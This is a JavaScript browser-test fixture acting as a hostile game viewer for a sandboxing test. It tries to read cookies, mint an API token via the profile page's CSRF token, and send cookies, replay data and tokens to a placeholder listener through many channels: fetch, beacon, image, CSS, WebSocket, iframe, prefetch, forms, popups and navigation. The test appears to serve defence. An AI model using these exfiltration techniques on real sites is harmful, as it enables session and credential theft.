"use strict";
// A hostile organiser's viewer (web/tests/test_own_viewer_browser.py). It draws each frame, with
// the replay it was given, then tries every way it knows to take the visitor's session, an API
// token or the replay out to OUT (the test's recorder), and writes each try on the page. Last it
// navigates, in the way the page that framed it names (`?try=` in its address, the frame's
// referrer; by default its own window; `stay` for none), since a navigation that works ends the
// script.
(() => {
  const OUT = "__LISTENER__";
  const said = [];
  let replaySeen = null;
  let started = false;
  const say = (line) => {
    said.push(line);
    console.log(`hostile-said ${line}`); // the test reads this: the page below may be gone by then
    let p = document.getElementById("hostile-said");
    if (!p) {
      p = document.createElement("pre");
      p.id = "hostile-said";
      document.body.appendChild(p);
    }
    p.textContent = said.join("\n");
  };
  const attempt = (name, fn) => {
    try {
      const result = fn();
      say(`${name}: tried`);
      if (result && typeof result.then === "function") {
        result.then(
          () => say(`${name}: reached`),
          (e) => say(`${name}: refused (${e && e.name})`),
        );
      }
    } catch (e) {
      say(`${name}: refused (${e.name})`);
    }
  };
  const loot = () => {
    let cookie = "";
    try {
      cookie = document.cookie;
    } catch (e) {
      cookie = "";
    }
    return encodeURIComponent(`${cookie} ${JSON.stringify(replaySeen || {}).slice(0, 1000)}`);
  };
  const form = (action, target) => {
    const f = document.createElement("form");
    f.method = "post";
    f.action = action;
    f.target = target;
    const field = document.createElement("input");
    field.name = "loot";
    field.value = loot();
    f.appendChild(field);
    document.body.appendChild(f);
    return f;
  };

  // What the window that window.open gives would be made to do, were it of the site: make a
  // token on the profile page and send it out.
  const stealThrough = (w) => {
    const step = () => {
      let d;
      try {
        d = w.document;
      } catch (e) {
        say(`open: its page is out of reach (${e.name})`);
        return;
      }
      const csrf = d && d.querySelector("input[name=csrfmiddlewaretoken]");
      if (!csrf) return setTimeout(step, 100);
      const body = new w.URLSearchParams({ csrfmiddlewaretoken: csrf.value, name: "stolen" });
      w.fetch("/accounts/profile/", { method: "POST", body })
        .then((r) => r.text())
        .then((text) => {
          const key = /arb_[A-Za-z0-9_-]+/.exec(text);
          return w.fetch(`${OUT}/open?${encodeURIComponent(key ? key[0] : text.slice(0, 200))}`, { mode: "no-cors" });
        });
    };
    step();
  };

  const tryAll = () => {
    if (started) return;
    started = true;
    attempt("cookie", () => {
      const cookie = document.cookie;
      say(`cookie read: [${cookie}]`);
    });
    attempt("storage", () => localStorage.setItem("hostile", "1"));
    attempt("fetch", () => fetch(`${OUT}/fetch?${loot()}`, { mode: "no-cors" }));
    attempt("api", () =>
      fetch("/api/me/", { credentials: "include" })
        .then((r) => r.text())
        .then((text) => fetch(`${OUT}/api?${encodeURIComponent(text)}`, { mode: "no-cors" })),
    );
    attempt("token", () =>
      fetch("/accounts/profile/", { credentials: "include" })
        .then((r) => r.text())
        .then((text) => {
          const csrf = /name="csrfmiddlewaretoken" value="([^"]+)"/.exec(text);
          const body = new URLSearchParams({ csrfmiddlewaretoken: csrf ? csrf[1] : "", name: "stolen" });
          return fetch("/accounts/profile/", { method: "POST", body, credentials: "include" });
        }),
    );
    attempt("beacon", () => {
      if (!navigator.sendBeacon(`${OUT}/beacon?${loot()}`)) throw new TypeError("beacon refused");
    });
    attempt("image", () => {
      new Image().src = `${OUT}/image?${loot()}`;
    });
    attempt("style", () => {
      const s = document.createElement("style");
      s.textContent = `body { background: url("${OUT}/style?${loot()}"); }`;
      document.head.appendChild(s);
    });
    attempt("websocket", () => new WebSocket(`${OUT.replace("http", "ws")}/websocket?${loot()}`));
    attempt("worker", () => new Worker(`${OUT}/worker.js`));
    attempt("frame", () => {
      const f = document.createElement("iframe");
      f.src = `${OUT}/frame?${loot()}`;
      document.body.appendChild(f);
    });
    attempt("prefetch", () => {
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = `${OUT}/prefetch?${loot()}`;
      document.head.appendChild(link);
    });
    attempt("popup form", () => form(`${OUT}/popup-form`, "_blank").submit());
    attempt("open", () => {
      const w = window.open("/accounts/profile/", "_blank");
      if (!w) throw new TypeError("no window");
      stealThrough(w);
    });
    attempt("open out", () => {
      if (!window.open(`${OUT}/open-out?${loot()}`, "_blank")) throw new TypeError("no window");
    });

    const asked = /[?&]try=([a-z-]+)/.exec(document.referrer);
    const how = asked ? asked[1] : "self";
    setTimeout(() => {
      say(`navigating: ${how}`);
      if (how === "self") location.href = `${OUT}/self?${loot()}`;
      if (how === "top") top.location.href = `${OUT}/top?${loot()}`;
      if (how === "form") form(`${OUT}/form`, "_self").submit();
      if (how === "top-form") form(`${OUT}/top-form`, "_top").submit();
      if (how === "refresh") {
        const meta = document.createElement("meta");
        meta.httpEquiv = "refresh";
        meta.content = `0;url=${OUT}/refresh?${loot()}`;
        document.head.appendChild(meta);
      }
      if (how === "link") {
        const a = document.createElement("a");
        a.href = `${OUT}/link?${loot()}`;
        a.target = "_top";
        document.body.appendChild(a);
        a.click();
      }
      setTimeout(() => say("still here"), 500);
    }, 500);
  };

  Arbiter.register("game", {
    render(frame, element, replay) {
      replaySeen = replay;
      const p = document.createElement("p");
      p.className = "hostile-own";
      p.textContent = `Hostile viewer: ${JSON.stringify(frame)}`;
      element.appendChild(p);
      const whole = document.createElement("pre");
      whole.className = "hostile-replay";
      whole.textContent = JSON.stringify(replay);
      element.appendChild(whole);
      console.log("hostile-said drew a frame");
      tryAll();
    },
  });
  // Opened by itself (no page gives it a replay), it tries all the same.
  setTimeout(tryAll, 300);
})();
